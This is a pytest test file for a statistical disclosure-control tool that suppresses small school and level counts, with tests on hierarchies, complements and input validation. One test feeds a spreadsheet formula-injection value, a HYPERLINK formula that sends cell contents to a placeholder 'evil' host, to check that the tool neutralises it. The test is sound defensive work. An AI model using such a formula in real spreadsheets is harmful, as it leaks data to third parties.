"""``tilstand protect``: whole groups, complements, hierarchies, and text that stays text."""

import csv
import itertools

import numpy as np
import pandas as pd
import pytest
from scipy.optimize import Bounds, LinearConstraint, milp

from tilstand.disclosure.errors import DisclosureCallError, DisclosureError
from tilstand.disclosure.protect import run

FULL = "school,level,n\nA,1,20\nA,2,0\nB,1,8\nB,2,9\nC,1,7\nC,2,6\n"
NESTED = (
    "municipality,school,level,n\nM1,A,1,3\nM1,A,2,30\nM1,B,1,14\nM1,B,2,12\n"
    "M2,C,1,9\nM2,C,2,22\nM2,D,1,11\nM2,D,2,15\n"
)


def write(tmp_path, text, name="cells.csv"):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def blanks(frame, *columns):
    rows = frame.loc[frame["status"] == "suppressed", list(columns)]
    return set(rows.itertuples(index=False, name=None))


def reach(frame, columns, at, sign):
    """Bound one cell by an integer program over inner cells, all blanks 0 or more."""
    inner = frame[(frame[columns] != "Total").all(axis=1)]
    keys = inner[columns].to_numpy()
    rows, low, high = [], [], []
    for key, count in zip(frame[columns].to_numpy(), frame["count"], strict=True):
        rows.append(((keys == key) | (key == "Total")).all(axis=1).astype(float))
        low.append(0.0 if pd.isna(count) else float(count))
        high.append(np.inf if pd.isna(count) else float(count))
    got = milp(
        -sign * rows[at],
        constraints=LinearConstraint(np.array(rows), low, high),
        integrality=np.ones(len(inner)),
        bounds=Bounds(0, 1000),
    )
    return round(float(rows[at] @ got.x))


def test_a_group_in_one_category_keeps_its_distribution(tmp_path):
    got = run(write(tmp_path, FULL), "school,level", "n", whole_group=True)
    assert {("A", "1"), ("A", "2")} <= blanks(got, "school", "level")
    at = int(np.flatnonzero((got["school"] == "A") & (got["level"] == "1"))[0])
    ends = [reach(got, ["school", "level"], at, sign) for sign in (-1, 1)]
    assert ends[0] <= 17
    assert ends[1] == 20


def test_without_the_rule_the_group_is_shown_and_said_to_be(tmp_path):
    lines = []
    got = run(write(tmp_path, FULL), "school,level", "n", tell=lines.append)
    assert blanks(got, "school", "level") == set()
    assert len(lines) == 1
    assert "'A / Total' in '1'; --whole-group hides that" in lines[0]


@pytest.mark.parametrize("dimensions", ["school,level", "level,school"])
def test_the_order_of_two_dimensions_makes_no_difference(tmp_path, dimensions):
    got = run(write(tmp_path, FULL), dimensions, "n", whole_group=True)
    assert ("A", "1") in blanks(got, "school", "level")


def test_a_dimension_that_is_not_named_is_only_told_of(tmp_path):
    lines = []
    got = run(
        write(tmp_path, FULL),
        "school,level",
        "n",
        whole_group=True,
        distribution="school",
        tell=lines.append,
    )
    assert ("A", "1") not in blanks(got, "school", "level")
    assert "--distribution school,level hides that" in lines[0]


def test_a_level_that_nobody_reached_is_blank_where_all_schools_are_whole(tmp_path):
    text = "school,level,n\nA,1,20\nA,2,0\nB,1,8\nB,2,0\n"
    got = run(write(tmp_path, text), "school,level", "n", whole_group=True)
    assert ("Total", "2") in blanks(got, "school", "level")
    at = int(np.flatnonzero((got["school"] == "A") & (got["level"] == "2"))[0])
    assert reach(got, ["school", "level"], at, 1) >= 1


def test_a_group_that_public_totals_disclose_is_said_to_be_disclosed(tmp_path):
    text = "school,level,n\nA,1,20\nA,2,0\nB,1,8\nB,2,0\n"
    totals = write(tmp_path, "level,n\n1,28\n2,0\n", "totals.csv")
    lines = []
    got = run(
        write(tmp_path, text),
        "school,level",
        "n",
        published=totals,
        whole_group=True,
        distribution="level",
        tell=lines.append,
    )
    assert len(got) == 9
    assert any("public totals or zeros show that already" in line for line in lines)


def test_a_count_that_leaves_few_of_its_group_is_hidden_by_the_complement_rule(tmp_path):
    text = "school,level,n\nA,1,97\nA,2,1\nA,3,1\nB,1,30\nB,2,20\nB,3,10\n"
    got = run(write(tmp_path, text), "school,level", "n", complements=True, distribution="level")
    assert ("A", "1") in blanks(got, "school", "level")


def test_subtotals_come_out_with_total_in_the_inner_column(tmp_path):
    got = run(write(tmp_path, NESTED), "school,level", "n", hierarchy=["school:municipality"])
    assert list(got.columns) == ["municipality", "school", "level", "count", "status"]
    subtotal = got[(got["municipality"] == "M1") & (got["school"] == "Total")]
    assert subtotal["count"].tolist() == [17, 42, 59]
    assert ("M1", "A", "1") in blanks(got, "municipality", "school", "level")
    assert len(got) == (4 + 2 + 1) * 3


def test_public_subtotals_stay_open(tmp_path):
    totals = write(tmp_path, "municipality,n\nM1,59\n", "totals.csv")
    got = run(
        write(tmp_path, NESTED),
        "municipality,school,level",
        "n",
        published=totals,
        hierarchy=["school:municipality"],
    )
    at = (got["municipality"] == "M1") & (got["school"] == "Total") & (got["level"] == "Total")
    assert got.loc[at, "status"].tolist() == ["ok"]


def test_a_school_in_two_municipalities_is_one_line(tmp_path):
    text = "municipality,school,n\nM1,A,9\nM2,A,8\n"
    with pytest.raises(DisclosureError) as got:
        run(write(tmp_path, text), "school", "n", hierarchy=["school:municipality"])
    (line,) = got.value.lines
    assert ":3:municipality: 'M2', expected 'M1'" in line


@pytest.mark.parametrize("text", ["school", "school:school", "a:b", "school:n", "school:"])
def test_a_hierarchy_that_makes_no_sense_is_refused(tmp_path, text):
    with pytest.raises(DisclosureCallError):
        run(write(tmp_path, NESTED), "school,level", "n", hierarchy=[text])


def test_three_levels_of_nesting_withstand_an_attack_on_every_small_count(tmp_path):
    generator = np.random.default_rng(4)
    lines = ["county,municipality,school,level,n"]
    for school, level in itertools.product(range(8), range(3)):
        count = generator.poisson(6)
        lines.append(f"C{school // 4},M{school // 2},S{school},L{level},{count}")
    got = run(
        write(tmp_path, "\n".join(lines)),
        "school,level",
        "n",
        hierarchy=["school:municipality:county"],
        whole_group=True,
    )
    columns = ["county", "municipality", "school", "level"]
    truth = pd.read_csv(tmp_path / "cells.csv", dtype=str).astype({"n": int})
    assert got["status"].eq("suppressed").any()
    for at, row in got.iterrows():
        same = [(truth[c] == row[c]) | (row[c] == "Total") for c in columns]
        true = int(truth.loc[np.logical_and.reduce(same), "n"].sum())
        if 0 < true < 5:
            assert row["status"] == "suppressed"
            ends = [reach(got, columns, at, sign) for sign in (-1, 1)]
            assert ends[1] - ends[0] >= 3


def test_what_a_spreadsheet_would_run_is_text_in_the_file(tmp_path):
    text = 'school,n\n"=HYPERLINK(""http://evil/?""&A1,""x"")",20\n@SUM(A1),12\n+1,13\n-1,30\n'
    run(write(tmp_path, text), "school", "n", output=tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
        names = [row[0] for row in csv.reader(file)]
    assert not any(name[0] in "=+@\t\r" for name in names)
    assert "-1" in names


@pytest.mark.parametrize("count", ["9" * 10, "9" * 30, "9" * 5000, "9223372036854775808"])
def test_a_count_that_no_group_of_people_has_is_one_line(tmp_path, count):
    with pytest.raises(DisclosureError) as got:
        run(write(tmp_path, f"school,n\nA,{count}\nB,7\n"), "school", "n")
    (line,) = got.value.lines
    assert "and 999999999 at most" in line
    assert len(line) < 300


def test_the_largest_count_is_protected_like_any_other(tmp_path):
    got = run(write(tmp_path, "school,n\nA,999999999\nB,3\nC,8\n"), "school", "n")
    assert ("B",) in blanks(got, "school")


def test_a_zero_byte_in_a_count_is_named_without_it(tmp_path):
    with pytest.raises(DisclosureError) as got:
        run(write(tmp_path, "school,n\nA,1\x002\nB,7\n"), "school", "n")
    assert "\x00" not in "".join(got.value.lines)


def test_a_table_of_too_many_cells_is_one_line(tmp_path):
    rows = [f"a{i},b{i},c{i},7" for i in range(100)]
    with pytest.raises(DisclosureError) as got:
        run(write(tmp_path, "a,b,c,n\n" + "\n".join(rows)), "a,b,c", "n")
    (line,) = got.value.lines
    assert "cells and margins" in line
